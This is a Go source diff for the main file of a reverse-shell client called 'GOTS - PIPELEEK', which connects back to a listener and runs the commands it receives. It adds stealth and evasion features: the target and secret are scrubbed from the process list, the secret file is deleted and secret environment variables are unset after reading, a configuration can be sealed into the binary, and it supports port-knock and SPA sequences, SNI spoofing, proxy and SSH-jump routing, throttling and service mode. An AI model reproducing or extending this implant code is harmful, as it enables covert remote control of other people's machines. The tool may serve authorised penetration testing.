@@ -1,11 +1,16 @@
 package main
 
 import (
+	"errors"
 	"flag"
 	"fmt"
 	"log"
+	"os"
+	"strconv"
+	"strings"
 	"time"
 
+	"github.com/frjcomp/gots/pkg/chaos"
 	"github.com/frjcomp/gots/pkg/client"
 	"github.com/frjcomp/gots/pkg/config"
 	"github.com/frjcomp/gots/pkg/logging"
@@ -25,20 +30,71 @@ func printHeader() {
 
 func main() {
 	var sharedSecret string
+	var sharedSecretFile string
 	var certFingerprint string
 	var target string
 	var maxRetriesStr string
 	var logLevel string
 	var quiet bool
+	var tags string
+	var noResume bool
+	var sni string
+	var alpn string
+	var bindIface string
+	var sourceIP string
+	var machineIDSalt string
+	var pingInterval time.Duration
+	var adaptivePing bool
+	var nice int
+	var memoryLimit int64
+	var bandwidthLimit int64
+	var maxTransferSize int64
+	var recordDir string
+	var replayPath string
+	var sshJump string
+	var sshKey string
+	var sshHostKey string
+	var proxy string
+	var proxyPAC bool
+	var knock string
+	var spaKey string
+	var chaosSpec string
 
 	flag.StringVar(&sharedSecret, "s", "", "Shared secret for authentication")
 	flag.StringVar(&sharedSecret, "shared-secret", "", "Shared secret for authentication")
+	flag.StringVar(&sharedSecretFile, "shared-secret-file", "", "Read the shared secret from this file and delete it")
 	flag.StringVar(&certFingerprint, "cert-fingerprint", "", "Expected server certificate SHA256 fingerprint")
 	flag.StringVar(&target, "target", "", "Target server address (host:port, required)")
 	flag.StringVar(&maxRetriesStr, "retries", "", "Maximum number of retries (required, 0 = infinite)")
 	flag.StringVar(&logLevel, "log-level", "", "Log level: error|warn|info|debug (default info)")
 	flag.BoolVar(&quiet, "quiet", false, "Reduce logs to errors only (overrides log-level)")
+	flag.StringVar(&tags, "tags", "", "Comma-separated tags announced to the listener (e.g. lab,web)")
+	flag.BoolVar(&noResume, "no-session-resumption", false, "Always perform a full TLS handshake when reconnecting")
+	flag.StringVar(&sni, "sni", "", "TLS server name (SNI) to send instead of the target host")
+	flag.StringVar(&alpn, "alpn", "", "Comma-separated ALPN protocols to offer (e.g. h2,http/1.1)")
+	flag.StringVar(&bindIface, "bind-iface", "", "Outbound network interface for the callback (e.g. eth1)")
+	flag.StringVar(&sourceIP, "source-ip", "", "Local source IP address for the callback")
+	flag.StringVar(&machineIDSalt, "machine-id-salt", "", "Salt for the stable machine identifier announced to the listener")
+	flag.DurationVar(&pingInterval, "ping-interval", 0, "Ask the listener to ping this often (e.g. 10s) to keep NAT flows alive")
+	flag.BoolVar(&adaptivePing, "adaptive-ping", false, "Ping more often after connections keep dropping while idle")
+	flag.IntVar(&nice, "nice", 0, "Lower the CPU priority of the client and its commands (0-19, 19 = idle)")
+	flag.Int64Var(&memoryLimit, "memory-limit", 0, "Soft memory cap in bytes; transfers that would exceed it are refused")
+	flag.Int64Var(&bandwidthLimit, "bandwidth-limit", 0, "Cap traffic to the listener in bytes per second")
+	flag.Int64Var(&maxTransferSize, "max-transfer-size", 0, "Refuse uploads and downloads of files larger than this many bytes")
+	flag.StringVar(&recordDir, "record", "", "Record every session to a file in this directory, for --replay")
+	flag.StringVar(&sshJump, "ssh-jump", "", "Reach the listener through this SSH server, user@host[:port] (password from GOTS_SSH_PASSWORD)")
+	flag.StringVar(&sshKey, "ssh-key", "", "Private key file for the SSH jump host (ssh-agent is used too)")
+	flag.StringVar(&sshHostKey, "ssh-host-key", "", "Expected SHA256 host key fingerprint of the SSH jump host")
+	flag.StringVar(&proxy, "proxy", "", "Proxy for the callback, http://host:port or socks5://host:port, or none (default: HTTPS_PROXY or the system settings)")
+	flag.BoolVar(&proxyPAC, "proxy-pac", false, "Take the proxy from the PAC file (or WPAD) the system settings name")
+	flag.StringVar(&knock, "knock", "", "Knock sequence sent to the listener host before connecting, e.g. tcp:7000,udp:8000,spa:62201")
+	flag.StringVar(&spaKey, "spa-key", "", "Hex key that signs the spa: knock (64 hex digits)")
+	flag.StringVar(&chaosSpec, "chaos", "", "Testing only: degrade the connection, e.g. latency=200ms,jitter=50ms,loss=1%,reorder=5%,disconnect=2m")
+	flag.StringVar(&replayPath, "replay", "", "Replay the commands of a recorded session offline, running them, then exit")
+	// Hide the target and secret from ps; flags are parsed from a copy
+	scrubbed := client.ScrubCommandLine()
 	flag.Parse()
+	client.HashExecutable() // Reported in SYSINFO as the file that was started
 
 	// Initialize logging from env, then apply flags if provided
 	logging.InitFromEnv()
@@ -48,6 +104,44 @@ func main() {
 	if quiet {
 		logging.SetQuiet(true)
 	}
+	service := initServiceLog()
+
+	if replayPath != "" {
+		if err := replaySession(replayPath, os.Stdout); err != nil {
+			log.Fatalf("Error: replay: %v", err)
+		}
+		return
+	}
+
+	if !scrubbed && sharedSecret != "" {
+		log.Printf("Warning: the shared secret stays visible in the process list on this OS; use --shared-secret-file or GOTS_SHARED_SECRET")
+	}
+	if sharedSecretFile != "" {
+		secret, err := readSecretFile(sharedSecretFile)
+		if err != nil {
+			log.Fatalf("Error: %v", err)
+		}
+		sharedSecret = secret
+	}
+
+	sealed, err := openSealedConfig()
+	if err != nil {
+		log.Fatalf("Error: embedded configuration: %v", err)
+	}
+	if sealed != nil {
+		if target == "" {
+			target = sealed.Target
+		}
+		if maxRetriesStr == "" {
+			maxRetriesStr = strconv.Itoa(sealed.MaxRetries)
+		}
+		if sharedSecret == "" {
+			sharedSecret = sealed.SharedSecret
+		}
+		if certFingerprint == "" {
+			certFingerprint = sealed.CertFingerprint
+		}
+	}
 
 	// Validate required flags
 	if target == "" {
@@ -56,18 +150,57 @@ func main() {
 	if maxRetriesStr == "" {
 		log.Fatal("Error: --retries flag is required (0 = infinite)")
 	}
+	chaosCfg, err := chaos.Parse(chaosSpec)
+	if err != nil {
+		log.Fatalf("Error: --chaos: %v", err)
+	}
 
 	maxRetries := 0
 	if _, err := fmt.Sscanf(maxRetriesStr, "%d", &maxRetries); err != nil {
 		log.Fatalf("Error: --retries must be a number: %v", err)
 	}
 
-	if err := runClient(target, maxRetries, sharedSecret, certFingerprint); err != nil {
+	opts := client.Options{
+		Tags:                     config.SplitList(tags),
+		DisableSessionResumption: noResume,
+		SNI:                      sni,
+		ALPN:                     config.SplitList(alpn),
+		BindInterface:            bindIface,
+		SourceIP:                 sourceIP,
+		MachineIDSalt:            machineIDSalt,
+		PingInterval:             pingInterval,
+		AdaptivePing:             adaptivePing,
+		Nice:                     nice,
+		MemoryLimit:              memoryLimit,
+		BandwidthLimit:           bandwidthLimit,
+		MaxTransferSize:          maxTransferSize,
+		RecordDir:                recordDir,
+		SSHJump:                  sshJump,
+		SSHKey:                   sshKey,
+		SSHHostKey:               sshHostKey,
+		Proxy:                    proxy,
+		ProxyPAC:                 proxyPAC,
+		Knock:                    knock,
+		SPAKey:                   spaKey,
+		Chaos:                    chaosCfg,
+	}
+	if sealed != nil {
+		opts = sealedOptions(opts, sealed)
+	}
+	run := func() error {
+		return runClient(target, maxRetries, sharedSecret, certFingerprint, opts)
+	}
+	if service {
+		err = runService(run)
+	} else {
+		err = run()
+	}
+	if err != nil {
 		log.Fatal(err)
 	}
 }
 
-func runClient(target string, maxRetries int, sharedSecret, certFingerprint string) error {
+func runClient(target string, maxRetries int, sharedSecret, certFingerprint string, opts client.Options) error {
 	printHeader()
 
 	// Load configuration with defaults and environment overrides
@@ -75,6 +208,13 @@ func runClient(target string, maxRetries int, sharedSecret, certFingerprint stri
 	if err != nil {
 		return fmt.Errorf("configuration error: %w", err)
 	}
+	unsetSecretEnv()
+	// Flags only fill in what the environment left unset, matching the
+	// env > flags priority of LoadClientConfig
+	applyClientOptions(cfg, opts)
+	if err := cfg.Validate(); err != nil {
+		return fmt.Errorf("configuration error: %w", err)
+	}
 
 	log.Printf("Starting GOTS - PIPELEEK client...")
 	log.Printf("Version: %s (commit %s, date %s)", version.Version, version.Commit, version.Date)
@@ -86,16 +226,194 @@ func runClient(target string, maxRetries int, sharedSecret, certFingerprint stri
 	if cfg.CertFingerprint != "" {
 		log.Printf("Certificate fingerprint validation: enabled")
 	}
+	if len(cfg.Tags) > 0 {
+		log.Printf("Tags: %s", strings.Join(cfg.Tags, ","))
+	}
+	if cfg.DisableSessionResumption {
+		log.Printf("TLS session resumption: disabled")
+	}
+	if cfg.SNI != "" {
+		log.Printf("SNI: %s", cfg.SNI)
+	}
+	if len(cfg.ALPN) > 0 {
+		log.Printf("ALPN: %s", strings.Join(cfg.ALPN, ","))
+	}
+	if cfg.BindInterface != "" {
+		log.Printf("Bind interface: %s", cfg.BindInterface)
+	}
+	if cfg.SourceIP != "" {
+		log.Printf("Source IP: %s", cfg.SourceIP)
+	}
+	if cfg.PingInterval != config.DefaultClientConfig().PingInterval {
+		log.Printf("Ping interval: %s", cfg.PingInterval)
+	}
+	if cfg.AdaptivePing {
+		log.Printf("Adaptive keepalive: enabled")
+	}
+	if cfg.Nice > 0 {
+		log.Printf("Priority: nice %d", cfg.Nice)
+	}
+	if cfg.MemoryLimit > 0 {
+		log.Printf("Memory limit: %d bytes", cfg.MemoryLimit)
+	}
+	if cfg.BandwidthLimit > 0 {
+		log.Printf("Bandwidth limit: %d bytes/s", cfg.BandwidthLimit)
+	}
+	if cfg.MaxTransferSize > 0 {
+		log.Printf("Max transfer size: %d bytes", cfg.MaxTransferSize)
+	}
+	if cfg.SSHJump != "" {
+		log.Printf("SSH jump host: %s", cfg.SSHJump)
+	}
+	if cfg.Proxy != "" {
+		log.Printf("Proxy: %s", redactProxy(cfg.Proxy))
+	}
+	if cfg.ProxyPAC {
+		log.Printf("PAC files: enabled")
+	}
+	if cfg.Knock != "" {
+		log.Printf("Knock: %s", cfg.Knock)
+	}
+
+	if opts.Chaos.Enabled() {
+		log.Printf("⚠️  Chaos mode: %s (for testing only)", opts.Chaos)
+	}
+
+	limits := client.Options{Nice: cfg.Nice, MemoryLimit: cfg.MemoryLimit, BandwidthLimit: cfg.BandwidthLimit}
+	if err := client.ApplyResourceLimits(limits); err != nil {
+		log.Printf("Warning: %v", err)
+	}
 
 	// Print session identifier for mapping
 	log.Printf("Session ID: %s", client.GetSessionID())
+	log.Printf("Machine ID: %s", client.MachineID(cfg.MachineIDSalt))
 
 	connectWithRetry(cfg.Target, cfg.MaxRetries, cfg.SharedSecret, cfg.CertFingerprint, func(t, s, f string) client.ReverseClientInterface {
-		return client.NewReverseClient(t, s, f)
+		return client.NewReverseClientWithOptions(t, s, f, client.Options{
+			Tags:                     cfg.Tags,
+			DisableSessionResumption: cfg.DisableSessionResumption,
+			SNI:                      cfg.SNI,
+			ALPN:                     cfg.ALPN,
+			BindInterface:            cfg.BindInterface,
+			SourceIP:                 cfg.SourceIP,
+			MachineIDSalt:            cfg.MachineIDSalt,
+			PingInterval:             cfg.PingInterval,
+			AdaptivePing:             cfg.AdaptivePing,
+			Nice:                     cfg.Nice,
+			MemoryLimit:              cfg.MemoryLimit,
+			BandwidthLimit:           cfg.BandwidthLimit,
+			MaxTransferSize:          cfg.MaxTransferSize,
+			SSHJump:                  cfg.SSHJump,
+			SSHKey:                   cfg.SSHKey,
+			SSHPassword:              cfg.SSHPassword,
+			SSHHostKey:               cfg.SSHHostKey,
+			Proxy:                    cfg.Proxy,
+			ProxyPAC:                 cfg.ProxyPAC,
+			Knock:                    cfg.Knock,
+			SPAKey:                   cfg.SPAKey,
+			Chaos:                    opts.Chaos,
+		})
 	}, time.Sleep)
 	return nil
 }
 
+// secretEnv lists the environment variables that carry secrets. They are
+// unset once read, so commands run by the client do not inherit them.
+var secretEnv = []string{"GOTS_SHARED_SECRET", "GOTS_CERT_FINGERPRINT", "GOTS_SSH_PASSWORD", "GOTS_PROXY", "GOTS_SPA_KEY"}
+
+// unsetSecretEnv removes the secret environment variables.
+func unsetSecretEnv() {
+	for _, name := range secretEnv {
+		_ = os.Unsetenv(name)
+	}
+}
+
+// readSecretFile returns the trimmed contents of path and deletes the file,
+// so the secret neither shows up in the process list nor stays on disk.
+func readSecretFile(path string) (string, error) {
+	data, err := os.ReadFile(path)
+	if err != nil {
+		return "", fmt.Errorf("failed to read shared secret file: %w", err)
+	}
+	if err := os.Remove(path); err != nil {
+		log.Printf("Warning: failed to delete shared secret file: %v", err)
+	}
+	secret := strings.TrimSpace(string(data))
+	if secret == "" {
+		return "", fmt.Errorf("shared secret file %s is empty", path)
+	}
+	return secret, nil
+}
+
+// applyClientOptions copies flag values into cfg where no env override is set.
+func applyClientOptions(cfg *config.ClientConfig, opts client.Options) {
+	if len(cfg.Tags) == 0 {
+		cfg.Tags = opts.Tags
+	}
+	cfg.DisableSessionResumption = cfg.DisableSessionResumption || opts.DisableSessionResumption
+	if cfg.SNI == "" {
+		cfg.SNI = opts.SNI
+	}
+	if len(cfg.ALPN) == 0 {
+		cfg.ALPN = opts.ALPN
+	}
+	if cfg.BindInterface == "" {
+		cfg.BindInterface = opts.BindInterface
+	}
+	if cfg.SourceIP == "" {
+		cfg.SourceIP = opts.SourceIP
+	}
+	if cfg.MachineIDSalt == "" {
+		cfg.MachineIDSalt = opts.MachineIDSalt
+	}
+	if opts.PingInterval > 0 && cfg.PingInterval == config.DefaultClientConfig().PingInterval {
+		cfg.PingInterval = opts.PingInterval
+	}
+	cfg.AdaptivePing = cfg.AdaptivePing || opts.AdaptivePing
+	if cfg.Nice == 0 {
+		cfg.Nice = opts.Nice
+	}
+	if cfg.MemoryLimit == 0 {
+		cfg.MemoryLimit = opts.MemoryLimit
+	}
+	if cfg.BandwidthLimit == 0 {
+		cfg.BandwidthLimit = opts.BandwidthLimit
+	}
+	if cfg.MaxTransferSize == 0 {
+		cfg.MaxTransferSize = opts.MaxTransferSize
+	}
+	if cfg.SSHJump == "" {
+		cfg.SSHJump = opts.SSHJump
+	}
+	if cfg.SSHKey == "" {
+		cfg.SSHKey = opts.SSHKey
+	}
+	if cfg.SSHPassword == "" {
+		cfg.SSHPassword = opts.SSHPassword
+	}
+	if cfg.SSHHostKey == "" {
+		cfg.SSHHostKey = opts.SSHHostKey
+	}
+	if cfg.Proxy == "" {
+		cfg.Proxy = opts.Proxy
+	}
+	cfg.ProxyPAC = cfg.ProxyPAC || opts.ProxyPAC
+	if cfg.Knock == "" {
+		cfg.Knock = opts.Knock
+	}
+	if cfg.SPAKey == "" {
+		cfg.SPAKey = opts.SPAKey
+	}
+}
+
+// redactProxy hides the password of a proxy URL for the log.
+func redactProxy(proxy string) string {
+	if u, err := config.ParseProxyURL(proxy); err == nil {
+		return u.Redacted()
+	}
+	return proxy
+}
+
 type clientFactory func(target, sharedSecret, certFingerprint string) client.ReverseClientInterface
 
 func connectWithRetry(target string, maxRetries int, sharedSecret, certFingerprint string, newClient clientFactory, sleep func(time.Duration)) {
@@ -130,7 +448,16 @@ func connectWithRetry(target string, maxRetries int, sharedSecret, certFingerpri
 
 		log.Printf("Connected to listener successfully")
 
-		if err := cl.HandleCommands(); err != nil {
+		if err := cl.HandleCommands(); errors.Is(err, client.ErrTerminated) {
+			log.Printf("Listener terminated this session. Exiting.")
+			_ = cl.Close()
+			return
+		} else if errors.Is(err, client.ErrRekey) {
+			// Not a failure: reconnect at once, resuming the TLS session
+			_ = cl.Close()
+			retries = 0
+			backoff = 5 * time.Second
+		} else if err != nil {
 			log.Printf("Connection failed: %v", err)
 			_ = cl.Close()
 